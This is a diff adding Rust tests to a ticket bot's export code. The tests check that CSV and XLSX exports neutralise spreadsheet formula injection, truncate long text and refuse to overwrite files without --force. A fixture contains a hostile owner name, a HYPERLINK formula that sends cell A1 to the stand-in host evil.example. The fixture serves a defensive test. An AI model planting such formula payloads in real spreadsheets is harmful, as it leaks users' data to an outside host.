@@ -826,3 +826,164 @@ async fn butler_export_writes_the_file_from_the_configured_database() {
     let bytes = std::fs::read(&xlsx).unwrap();
     assert_eq!(sheet(&bytes, "工单").height(), 7);
 }
+
+// Exports are data, never formulas (issue 13, item 4).
+
+const EVIL_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+const EVIL: u64 = 666;
+
+/// The issue's example: an owner named like a formula reports `/repair =1+2`; a second
+/// report is 40,000 characters long.
+async fn hostile_reports() -> Fixture {
+    let f = Fixture::empty().await;
+    let mut tx = f.store.begin().await.unwrap();
+    let when = at("11-02 08:00");
+    tx.touch_owner(EVIL, EVIL_NAME, None, when).await.unwrap();
+    let long = "x".repeat(40_000);
+    for (message, text) in [(1, "=1+2"), (2, long.as_str())] {
+        let id = tx
+            .insert_ticket(
+                &NewTicket {
+                    group_chat_id: G1,
+                    report_message_id: message,
+                    owner_id: EVIL,
+                    unit: None,
+                    category: Category::Plumbing,
+                    text,
+                    priority: false,
+                },
+                when,
+            )
+            .await
+            .unwrap()
+            .unwrap();
+        let owner = Actor {
+            id: EVIL,
+            name: EVIL_NAME.to_owned(),
+            is_manager: false,
+        };
+        tx.add_event(id, EventKind::Reported, &owner, None, when)
+            .await
+            .unwrap();
+    }
+    tx.commit().await.unwrap();
+    f
+}
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let f = hostile_reports().await;
+    let settings = Settings::from_toml("default_locale = \"en\"\ntimezone = \"UTC\"").unwrap();
+    let out = f._dir.path().join("csv");
+    let files = export::write(
+        &f.store,
+        &settings,
+        november(),
+        export::ExportFormat::Csv,
+        &out,
+    )
+    .await
+    .unwrap();
+    let tickets = std::fs::read_to_string(&files[0]).unwrap();
+    let first = tickets.lines().nth(1).unwrap();
+    assert!(
+        first.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
+        "the owner's name starts with a quote: {first}"
+    );
+    assert!(
+        first.ends_with(",'=1+2"),
+        "the report starts with a quote: {first}"
+    );
+    assert!(
+        !tickets.contains(",=") && !tickets.contains(",\"="),
+        "{first}"
+    );
+}
+
+#[tokio::test]
+async fn xlsx_cells_hold_formula_like_text_as_strings_and_long_text_cut_with_a_mark() {
+    let f = hostile_reports().await;
+    let mut tx = f.store.begin().await.unwrap();
+    let sheets = export::sheets(
+        &mut tx,
+        november(),
+        TAKE_MINUTES,
+        Locale::En,
+        chrono_tz::UTC,
+    )
+    .await
+    .unwrap();
+    drop(tx);
+    let bytes = export::xlsx(&sheets).unwrap();
+    let tickets = sheet(&bytes, "Tickets");
+    assert_eq!(
+        tickets.get((1, 4)),
+        Some(&Data::String(EVIL_NAME.to_owned()))
+    );
+    assert_eq!(tickets.get((1, 14)), Some(&Data::String("=1+2".to_owned())));
+    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
+    let formulas = book.worksheet_formula("Tickets").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no cell is a formula"
+    );
+    let Some(Data::String(long)) = tickets.get((2, 14)) else {
+        panic!("the long report is a string: {:?}", tickets.get((2, 14)));
+    };
+    assert_eq!(long.chars().count(), export::XLSX_MAX_TEXT);
+    assert!(long.ends_with("x…"), "cut with a mark");
+}
+
+#[tokio::test]
+async fn butler_export_refuses_to_overwrite_a_file_unless_forced() {
+    let f = Fixture::november().await;
+    let db = f._dir.path().join("figures.db");
+    let config = f._dir.path().join("butler.toml");
+    std::fs::write(
+        &config,
+        format!("database_url = \"sqlite://{}\"\n", db.display()),
+    )
+    .unwrap();
+    let xlsx = f._dir.path().join("nov.xlsx");
+    std::fs::write(&xlsx, b"precious").unwrap();
+    let dir = f._dir.path().join("csv");
+    std::fs::create_dir(&dir).unwrap();
+    std::fs::write(dir.join("ratings.csv"), b"precious").unwrap();
+    let export = |out: &std::path::Path, more: &[&str]| {
+        let mut args = vec![
+            "--config",
+            config.to_str().unwrap(),
+            "export",
+            "--from",
+            "2026-11-01",
+            "--to",
+            "2026-11-30",
+            "--out",
+            out.to_str().unwrap(),
+        ];
+        args.extend(more);
+        butler(&args)
+    };
+    for (out, more, there) in [
+        (&xlsx, &[][..], xlsx.clone()),
+        (&dir, &["--format", "csv"][..], dir.join("ratings.csv")),
+    ] {
+        let refused = export(out, more);
+        assert!(!refused.status.success());
+        let err = String::from_utf8(refused.stderr).unwrap();
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert!(
+            err.starts_with(&format!(
+                "butler: export: {} already exists;",
+                there.display()
+            )) && err.contains("--force"),
+            "{err}"
+        );
+        assert_eq!(std::fs::read(&there).unwrap(), b"precious");
+        let mut forced = more.to_vec();
+        forced.push("--force");
+        let o = export(out, &forced);
+        assert!(o.status.success(), "{o:?}");
+        assert_ne!(std::fs::read(&there).unwrap(), b"precious");
+    }
+}
